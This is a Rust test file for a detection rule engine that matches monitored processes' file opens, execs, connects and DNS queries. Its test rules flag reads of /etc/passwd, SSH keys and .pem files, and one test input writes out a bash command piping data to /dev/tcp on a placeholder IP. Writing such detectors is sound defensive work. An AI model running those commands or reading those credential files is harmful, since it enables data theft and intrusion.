//! Each operator, shorthand, list, macro and combinator.

use super::*;

#[test]
fn equals_and_shorthand() {
    assert!(hits(
        "open",
        "{path: {equals: /etc/passwd}}",
        open("/etc/passwd", 0)
    ));
    assert!(hits("open", "{path: /etc/passwd}", open("/etc/passwd", 0)));
    assert!(!hits(
        "open",
        "{path: /etc/passwd}",
        open("/etc/passwd2", 0)
    ));
    assert!(hits("connect", "{port: 443}", connect("1.2.3.4", 443)));
    assert!(!hits("connect", "{port: 443}", connect("1.2.3.4", 80)));
}

#[test]
fn in_inline_and_named_list() {
    let inline = "{exe: {in: [bash, sh]}}";
    assert!(hits("exec", inline, exec("/usr/bin/bash", &["bash"])));
    assert!(!hits("exec", inline, exec("/usr/bin/python3", &[])));
    let rules = "lists:\n  shells: [bash, sh, zsh]\nrules:\n  - name: r\n    description: d\n    kinds: exec\n    when: {exe: {in: {list: shells}}}\n    tier: log\n    summary: s\n";
    let mut e = engine(rules);
    assert_eq!(fired(&mut e, &fraud(exec("/bin/zsh", &[]))), ["r"]);
    assert!(fired(&mut e, &fraud(exec("/bin/ls", &[]))).is_empty());
    assert!(hits(
        "connect",
        "{port: {in: [22, 23]}}",
        connect("1.2.3.4", 23)
    ));
}

#[test]
fn string_operators() {
    assert!(hits(
        "open",
        "{path: {starts_with: [/pii/, /sensitive/]}}",
        open("/sensitive/x", 0)
    ));
    assert!(!hits(
        "open",
        "{path: {starts_with: /pii/}}",
        open("/data/pii/x", 0)
    ));
    assert!(hits(
        "open",
        "{path: {ends_with: .pem}}",
        open("/etc/ssl/key.pem", 0)
    ));
    assert!(hits(
        "open",
        "{path: {contains: /.ssh/}}",
        open("/home/a/.ssh/id_rsa", 0)
    ));
    assert!(!hits(
        "open",
        "{path: {contains: /.ssh/}}",
        open("/home/a/ssh", 0)
    ));
}

#[test]
fn glob_star_stays_in_a_directory() {
    assert!(hits(
        "open",
        "{path: {glob: '/tmp/*.sh'}}",
        open("/tmp/x.sh", 0)
    ));
    assert!(!hits(
        "open",
        "{path: {glob: '/tmp/*.sh'}}",
        open("/tmp/a/x.sh", 0)
    ));
    assert!(hits(
        "open",
        "{path: {glob: '**/.ssh/**'}}",
        open("/root/.ssh/authorized_keys", 0)
    ));
    assert!(hits(
        "open",
        "{path: {glob: ['/a/*', '/b/**']}}",
        open("/b/c/d", 0)
    ));
}

#[test]
fn numeric_comparisons_and_bits() {
    assert!(hits(
        "connect",
        "{port: {gt: 1023}}",
        connect("1.2.3.4", 1024)
    ));
    assert!(!hits(
        "connect",
        "{port: {gt: 1023}}",
        connect("1.2.3.4", 1023)
    ));
    assert!(hits(
        "connect",
        "{port: {gte: 1023}}",
        connect("1.2.3.4", 1023)
    ));
    assert!(hits(
        "connect",
        "{port: {lt: 1024, gte: 1}}",
        connect("1.2.3.4", 22)
    ));
    assert!(hits("connect", "{port: {lte: 22}}", connect("1.2.3.4", 22)));
    // O_WRONLY | O_CREAT
    assert!(hits("open", "{flags: {bits_any: 0o3}}", open("/x", 0o101)));
    assert!(!hits(
        "open",
        "{flags: {bits_all: 0o1100}}",
        open("/x", 0o101)
    ));
    assert!(hits("open", "{flags: {bits_all: 0x41}}", open("/x", 0o101)));
    assert!(hits("open", "{access: write}", open("/x", 0o101)));
    assert!(hits("open", "{access: read}", open("/x", 0)));
    let chmod = Body::Chmod {
        path: "/tmp/x".into(),
        dirfd: -100,
        mode: 0o755,
        ret: 0,
    };
    assert!(hits("chmod", "{mode: {bits_any: 0o111}}", chmod));
}

#[test]
fn addresses_and_cidr() {
    assert!(hits(
        "connect",
        "{addr: {cidr: 10.0.0.0/8}}",
        connect("10.1.2.3", 1)
    ));
    assert!(!hits(
        "connect",
        "{addr: {cidr: 10.0.0.0/8}}",
        connect("11.1.2.3", 1)
    ));
    // An IPv4-mapped IPv6 peer matches the IPv4 block.
    assert!(hits(
        "connect",
        "{addr: {cidr: [192.168.0.0/16]}}",
        connect("::ffff:192.168.1.1", 1)
    ));
    assert!(hits(
        "connect",
        "{addr: {cidr: 'fd00::/8'}}",
        connect("fd12::1", 1)
    ));
    assert!(hits(
        "connect",
        "{addr: 127.0.0.1}",
        connect("127.0.0.1", 1)
    ));
    assert!(hits(
        "connect",
        "{addr: {in: [1.1.1.1, 8.8.8.8]}}",
        connect("8.8.8.8", 53)
    ));
    // A connect without a peer address: only `exists: false` holds.
    assert!(!hits(
        "connect",
        "{addr: {cidr: 0.0.0.0/0}}",
        connect("none", 1)
    ));
    assert!(hits(
        "connect",
        "{addr: {exists: false}}",
        connect("none", 1)
    ));
    assert!(hits(
        "connect",
        "{addr: {exists: true}}",
        connect("1.1.1.1", 1)
    ));
}

#[test]
fn argv_matches_any_element() {
    let when = "{argv: {contains: /dev/tcp/}}";
    assert!(hits(
        "exec",
        when,
        exec("/bin/bash", &["bash", "-c", "cat >/dev/tcp/1.2.3.4/80"])
    ));
    assert!(!hits(
        "exec",
        when,
        exec("/bin/bash", &["bash", "-c", "ls"])
    ));
}

#[test]
fn combinators() {
    let when =
        "{any: [{path: {starts_with: /a/}}, {path: {starts_with: /b/}}], not: {access: read}}";
    assert!(hits("open", when, open("/a/x", 1)));
    assert!(!hits("open", when, open("/a/x", 0)));
    assert!(!hits("open", when, open("/c/x", 1)));
    let all = "{all: [{path: {starts_with: /a/}}, {path: {ends_with: .txt}}]}";
    assert!(hits("open", all, open("/a/b.txt", 0)));
    assert!(!hits("open", all, open("/a/b.csv", 0)));
}

#[test]
fn macros_inline_and_nest() {
    let rules = "
macros:
  is_write: {access: {in: [write, read_write]}}
  pii_write: {all: [{macro: is_write}, {path: {starts_with: /pii/}}]}
rules:
  - name: r
    description: d
    kinds: open
    when: {macro: pii_write}
    tier: contain
    summary: s
";
    let mut e = engine(rules);
    assert_eq!(fired(&mut e, &fraud(open("/pii/a", 2))), ["r"]);
    assert!(fired(&mut e, &fraud(open("/pii/a", 0))).is_empty());
    assert!(fired(&mut e, &fraud(open("/tmp/a", 1))).is_empty());
}

#[test]
fn no_condition_matches_every_event_of_the_kind() {
    let mut e = engine(
        "rules:\n  - {name: r, description: d, kinds: [fork, exit], tier: log, summary: s}\n",
    );
    let fork = Body::Fork {
        child: 2,
        thread: false,
        clone_flags: 0,
    };
    assert_eq!(fired(&mut e, &fraud(fork)), ["r"]);
    assert_eq!(fired(&mut e, &fraud(Body::Exit { code: None })), ["r"]);
    assert!(fired(&mut e, &fraud(open("/x", 0))).is_empty());
}

#[test]
fn common_fields() {
    assert!(hits(
        "open",
        "{class: fraud, agent: fraud-1, pid: 100, kind: open}",
        open("/x", 0)
    ));
    assert!(hits(
        "dns_query",
        "{name: {ends_with: .onion}}",
        dns("abc.onion")
    ));
    assert!(hits(
        "dns_query",
        "{server_port: 53, server_addr: {cidr: 10.0.0.0/24}}",
        dns("a")
    ));
}
